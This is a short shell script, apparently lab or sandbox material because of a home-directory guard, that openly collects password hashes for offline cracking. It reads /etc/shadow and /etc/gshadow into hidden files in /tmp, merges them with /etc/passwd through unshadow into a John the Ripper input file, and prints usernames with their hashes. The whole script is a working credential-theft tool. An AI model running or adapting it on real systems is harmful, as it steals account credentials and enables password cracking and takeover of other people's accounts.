#!/bin/sh
# SPDX-License-Identifier: MIT
# Takes the password hashes for cracking offline.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
out=/tmp/.h
cat /etc/shadow > "$out" 2>/dev/null
cat /etc/gshadow >> "$out" 2>/dev/null
cp /etc/passwd /tmp/.p 2>/dev/null
/usr/sbin/unshadow /tmp/.p "$out" > /tmp/.john 2>/dev/null
grep -v ':[*!]' "$out" | cut -d: -f1,2
exit 0
